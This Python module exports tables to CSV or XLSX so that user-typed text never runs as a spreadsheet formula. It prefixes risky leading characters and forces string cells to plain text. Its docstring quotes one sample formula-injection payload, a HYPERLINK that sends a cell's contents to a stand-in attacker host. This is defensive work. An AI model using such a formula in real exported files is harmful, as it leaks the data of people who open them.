"""Tables written for people to open in a spreadsheet program: text stays text.

A unit name is whatever someone typed or imported — ``=HYPERLINK("http://evil.example/?leak="&A1,
"点击查看")`` included. Written as it is, Excel or WPS would run it as a formula when the public
opens the 公示 list (CSV/formula injection). Every exported table goes through
:func:`table_bytes`:

* XLSX: each string cell is an inline string (``t="inlineStr"``), never a formula, so the text is
  shown exactly as entered; characters XML cannot carry are replaced by U+FFFD rather than making
  the export fail.
* CSV: a string cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
  prefixed with ``'`` (the OWASP rule), which spreadsheet programs show as text.

Numbers, dates and booleans are written as such: they are the application's, not a user's.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

__all__ = ["FORMULA_TRIGGERS", "csv_cell", "table_bytes", "write_csv", "xlsx_cell"]

#: What a spreadsheet program may read as the start of a formula (OWASP CSV injection).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet program evaluates: a risky leading character gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def write_csv(headers: Sequence[Any], rows: Sequence[Sequence[Any]]) -> bytes:
    """Rows as CSV, UTF-8 with BOM (so spreadsheet programs read the Chinese), cells neutralised."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow([csv_cell(c) for c in headers])
    writer.writerows([csv_cell(c) for c in row] for row in rows)
    return ("\ufeff" + out.getvalue()).encode("utf-8")


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A write-only cell; a string is stored as an inline string, never as a formula."""
    if not isinstance(value, str):
        return value
    cell = WriteOnlyCell(sheet, value=ILLEGAL_CHARACTERS_RE.sub("\ufffd", value))
    cell.data_type = "s"
    return cell


def table_bytes(
    headers: Sequence[Any],
    rows: Sequence[Sequence[Any]],
    fmt: str,
    *,
    sheet_title: str = "Sheet1",
    title: str = "",
) -> bytes:
    """One table as ``csv`` or ``xlsx`` (the header in row 1). Raises ValueError for another."""
    if fmt == "csv":
        return write_csv(headers, rows)
    if fmt != "xlsx":
        raise ValueError(f"unknown table format {fmt!r}")
    book = Workbook(write_only=True)
    sheet = book.create_sheet(sheet_title)
    sheet.append([xlsx_cell(sheet, c) for c in headers])
    for row in rows:
        sheet.append([xlsx_cell(sheet, c) for c in row])
    book.properties.title = title or None
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
